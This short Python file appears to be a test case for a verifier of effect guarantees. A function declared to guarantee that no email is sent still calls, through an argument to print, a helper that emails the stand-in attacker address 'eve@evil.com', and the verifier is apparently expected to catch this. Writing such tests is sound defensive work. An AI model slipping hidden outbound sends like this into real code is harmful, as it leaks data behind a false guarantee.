# not proved: the arguments of print are evaluated
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


def told():
    send_email("eve@evil.com", "x")
    return "m"


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    print(told())
